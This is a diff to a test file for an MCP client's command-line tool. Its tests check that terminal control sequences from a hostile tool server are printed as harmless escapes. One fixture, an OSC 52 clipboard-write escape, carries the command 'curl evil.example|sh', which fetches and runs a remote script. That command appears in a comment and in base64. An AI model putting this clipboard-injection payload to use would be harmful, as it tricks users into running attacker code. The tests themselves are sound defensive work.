@@ -8,19 +8,12 @@
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { formatProgress } from '../../src/cli/call-progress.js';
-import { callCommand, inspectCommand, type CommandContext } from '../../src/cli/commands.js';
+import { callCommand, inspectCommand } from '../../src/cli/commands.js';
 import { EXIT_CODES } from '../../src/cli/exit-codes.js';
 import { runCli } from '../../src/cli/run.js';
 import { terminalLine, terminalLines } from '../../src/cli/terminal-text.js';
 import type { HttpHost, RawTool } from '../support/mcp-fixtures.js';
-import {
-  captureIo,
-  configDir,
-  recordProgress,
-  startToolHost,
-  type CapturedIo,
-  type ConfigDir,
-} from './mcp-host.js';
+import { captureIo, configDir, startToolHost, type ConfigDir, commandContext } from './mcp-host.js';
 
 const ESC = '\u001b';
 /** Writes "curl evil.example|sh" to the clipboard. */
@@ -64,10 +57,6 @@ const TOOLS: readonly RawTool[] = [
     handler: () => ({ isError: true, content: [{ type: 'text', text: `bad${ESC}[2J\nstuff` }] }),
   },
 ];
-
-function context(io: CapturedIo): CommandContext {
-  return { io, progress: recordProgress(), signal: new AbortController().signal, json: false };
-}
 
 describe('terminalLine and terminalLines', () => {
   it('write every control character and bidi control as its escape', () => {
@@ -122,7 +111,7 @@ describe('CLI text output of a hostile server', () => {
 
   it('inspect shows names, property names, $refs, enums and descriptions as escapes', async () => {
     const io = captureIo();
-    expect(await inspectCommand(config, context(io))).toBe(EXIT_CODES.ok);
+    expect(await inspectCommand(config, commandContext(io))).toBe(EXIT_CODES.ok);
     const out = io.out();
     expect(out).not.toMatch(OBEYED);
     const tool = out.slice(out.indexOf('Tools (3)'));
@@ -139,7 +128,9 @@ describe('CLI text output of a hostile server', () => {
 
   it('call keeps the lines and tabs of a result and shows its other controls as escapes', async () => {
     const io = captureIo();
-    expect(await callCommand(config, 'srv.result', undefined, context(io))).toBe(EXIT_CODES.ok);
+    expect(await callCommand(config, 'srv.result', undefined, commandContext(io))).toBe(
+      EXIT_CODES.ok,
+    );
     expect(io.out()).toBe(
       'line 1\n\tline 2\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07\n\\x1b[1Aline 3\n',
     );
@@ -147,7 +138,7 @@ describe('CLI text output of a hostile server', () => {
 
   it('call shows the controls of an error result as escapes, on one line', async () => {
     const io = captureIo();
-    expect(await callCommand(config, 'srv.broken', undefined, context(io))).toBe(
+    expect(await callCommand(config, 'srv.broken', undefined, commandContext(io))).toBe(
       EXIT_CODES.toolError,
     );
     expect(io.err()).toBe('error: bad\\x1b[2J stuff\n');
